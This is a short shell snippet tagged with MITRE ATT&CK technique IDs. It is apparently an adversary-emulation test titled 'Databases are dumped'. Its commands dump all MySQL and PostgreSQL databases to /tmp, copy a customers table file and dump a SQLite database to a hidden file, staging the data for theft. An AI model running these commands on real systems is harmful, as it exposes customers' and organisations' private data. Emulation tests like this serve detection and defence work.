# title: Databases are dumped
# technique: T1213.006 T1005
# needs: sqlite3

mysqldump --all-databases >/tmp/d.sql 2>/dev/null; pg_dumpall >/tmp/p.sql 2>/dev/null
cp /var/lib/mysql/shop/customers.ibd /tmp/c; sqlite3 /tmp/n.db .dump >/tmp/.dump
